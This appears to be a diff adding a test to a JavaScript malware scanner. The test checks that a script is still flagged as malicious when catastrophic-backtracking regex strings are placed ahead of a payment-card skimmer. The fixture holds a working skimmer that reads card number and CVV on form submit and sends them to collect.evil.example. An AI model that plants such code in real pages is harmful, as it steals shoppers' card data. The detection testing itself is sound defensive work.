@@ -94,6 +94,16 @@ test.each([
   expectWhole(scoreScript(source))
 })
 
+test.each([
+  ['match', `'${'a'.repeat(250_000)}'.match(/a+b/);`],
+  ['replace', `'${'a'.repeat(250_000)}'.replace(/a*b/g,'');`],
+  ['split', `'${'a'.repeat(250_000)}'.split(/a+$/);`],
+])('a pattern that walks its text again and again hides nothing: %s', (_, pattern) => {
+  const skimmer = `document.querySelector('form').addEventListener('submit',function(){var n=document.querySelector('#card_number').value,c=document.querySelector('#cvv').value;new Image().src='https://collect.evil.example/g.php?d='+btoa(n+'|'+c)})`
+  const { scores } = scoreScript(pattern + skimmer)
+  expect(scores?.js_integrity_score).toBeLessThan(MALICIOUS_BELOW)
+})
+
 test('any text gets whole scores', () => {
   const pieces = fc.constantFrom(
     'var a=',
